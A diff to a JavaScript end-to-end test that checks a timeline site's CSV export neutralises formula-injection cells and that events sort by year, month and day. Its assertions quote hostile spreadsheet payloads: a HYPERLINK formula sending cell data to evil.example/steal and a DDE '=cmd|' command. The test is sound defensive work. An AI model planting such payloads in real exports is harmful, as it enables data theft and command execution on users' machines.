@@ -5,7 +5,7 @@
 // sizes. A fixture corpus of hostile cells checks the CSV's formula guard.
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
-import { launch, openPage, startServer, copySite, cli, CORPUS, waitForApp } from './support/lib.mjs';
+import { launch, openPage, startServer, copySite, cli, CORPUS, waitForApp, parseCsv } from './support/lib.mjs';
 
 const SUBPATH_SITE = process.env.TIMELINE_SUBPATH_SITE || 'target/e2e/site-subpath';
 let browser, server, url;
@@ -25,34 +25,6 @@ async function bytes(base, path) {
   const response = await fetch(`${base}/${path}`);
   assert.equal(response.status, 200, path);
   return new Uint8Array(await response.arrayBuffer());
-}
-
-/** RFC 4180, strictly: quoted cells with doubled quotes, CRLF after every row, a BOM first. */
-function parseCsv(data) {
-  assert.deepEqual([...data.slice(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 with a byte-order mark');
-  const text = new TextDecoder('utf-8', { fatal: true }).decode(data.slice(3));
-  const rows = [];
-  let row = [], cell = '', quoted = false, wasQuoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i];
-    if (quoted) {
-      if (c !== '"') cell += c;
-      else if (text[i + 1] === '"') { cell += '"'; i++; }
-      else quoted = false;
-    } else if (c === '"') {
-      assert.equal(cell, '', `a quote opens a cell only at its start (row ${rows.length + 1})`);
-      quoted = wasQuoted = true;
-    } else if (c === ',') {
-      row.push(cell); cell = ''; wasQuoted = false;
-    } else if (c === '\r' && text[i + 1] === '\n') {
-      row.push(cell); rows.push(row); row = []; cell = ''; wasQuoted = false; i++;
-    } else {
-      assert.ok(!wasQuoted && c !== '\n' && c !== '\r', `a bare line break or text after a quote (row ${rows.length + 1})`);
-      cell += c;
-    }
-  }
-  assert.ok(!quoted && row.length === 0 && cell === '', 'the last row ends with CRLF');
-  return rows;
 }
 
 /** The about page's rule for sizes (timeline_bundle::export::human_size), in JavaScript. */
@@ -110,12 +82,12 @@ test('a cell that would start a formula is neutralised in the CSV and kept as wr
   try {
     const json = JSON.parse(new TextDecoder().decode(await bytes(site.url, 'data/events.json')));
     const rows = parseCsv(await bytes(site.url, 'data/events.csv'));
-    assert.equal(json.length, 2);
-    assert.equal(rows.length, 3);
-    // The month-only event comes first: a month sorts before its days.
-    assert.deepEqual(json.map((e) => e.id), ['2021-06-02--an-ordinary-event', '2021-06-01--formula-cells']);
-    const e = json[1];
-    const row = rows[2];
+    assert.equal(json.length, 3);
+    assert.equal(rows.length, 4);
+    // A year sorts before its months, a month before its days.
+    assert.deepEqual(json.map((e) => e.id), ['2020--a-whole-year', '2021-06-02--an-ordinary-event', '2021-06-01--formula-cells']);
+    const e = json[2];
+    const row = rows[3];
     assert.equal(e.title, '=HYPERLINK("https://evil.example/steal?d="&A1,"Click for details")');
     assert.equal(row[2], `'${e.title}`);
     assert.match(e.summary, /^\+1 pays, -1 owes; .quoted., and @everyone$/);
@@ -124,8 +96,8 @@ test('a cell that would start a formula is neutralised in the CSV and kept as wr
     assert.equal(row[6], "'-tag; plain");
     assert.equal(row[7], "'+Actor");
     assert.equal(row[10], "'=cmd|' /C calc'!A0 | https://example.org/source?a=1&b=2");
-    assert.equal(rows[1][2], 'An ordinary event, with a comma');
-    assert.equal(rows[1][1], '2021-06');
+    assert.equal(rows[2][2], 'An ordinary event, with a comma');
+    assert.equal(rows[2][1], '2021-06');
     for (const r of rows) for (const cell of r) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
   } finally {
     site.close();
